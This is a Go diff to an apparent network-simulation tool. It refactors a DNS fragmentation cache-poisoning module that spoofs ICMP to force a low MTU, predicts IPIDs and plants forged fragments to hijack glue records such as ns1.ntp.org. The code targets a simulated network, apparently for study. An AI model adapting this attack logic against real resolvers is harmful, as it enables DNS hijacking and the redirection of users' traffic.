@@ -106,7 +106,6 @@ type FragPoisonerConfig struct {
 	GlueName       string      // glue record to hijack, e.g. "ns1.ntp.org"
 	AttackerNS     simnet.IP   // where the rewritten glue points
 	ForcedMTU      int         // path MTU imposed via spoofed ICMP PTB; default 68
-	IPIDWindow     int         // how many consecutive IPIDs to plant; default 8
 
 	// ResolverEDNS is the victim resolver's EDNS0 buffer size, which the
 	// attacker fingerprints beforehand (e.g. by watching its own queries
@@ -120,11 +119,14 @@ func (c FragPoisonerConfig) withDefaults() FragPoisonerConfig {
 	if c.ForcedMTU == 0 {
 		c.ForcedMTU = ipfrag.MinMTU
 	}
-	if c.IPIDWindow == 0 {
-		c.IPIDWindow = 8
-	}
 	return c
 }
+
+// ipidWindow is how many consecutive IPIDs after the probed one the
+// attacker plants for: the genuine response still lands while fewer than
+// that many of the server's datagrams go out between probe and victim
+// query.
+const ipidWindow = 8
 
 // glueTTLBase holds the top 16 bits of the poisoned glue's TTL:
 // 589 824 s ≈ 6.8 days.
@@ -205,7 +207,7 @@ func (p *FragPoisoner) Probe(qname string, qtype dnswire.Type, cb func(resp []by
 }
 
 // Plant crafts the poisoned tail from the probed genuine response and
-// injects spoofed fragments for the next IPIDWindow IPIDs after probedID.
+// injects spoofed fragments for the next ipidWindow IPIDs after probedID.
 // It returns the number of fragments planted per IPID.
 func (p *FragPoisoner) Plant(genuine []byte, probedID uint16) (int, error) {
 	chunk := (p.cfg.ForcedMTU - ipfrag.IPHeaderSize) &^ 7
@@ -220,7 +222,7 @@ func (p *FragPoisoner) Plant(genuine []byte, probedID uint16) (int, error) {
 	}
 	perID := 0
 	net := p.host.Net()
-	for w := 1; w <= p.cfg.IPIDWindow; w++ {
+	for w := 1; w <= ipidWindow; w++ {
 		ipid := probedID + uint16(w)
 		perID = 0
 		for off := chunk; off < datagramLen; off += chunk {
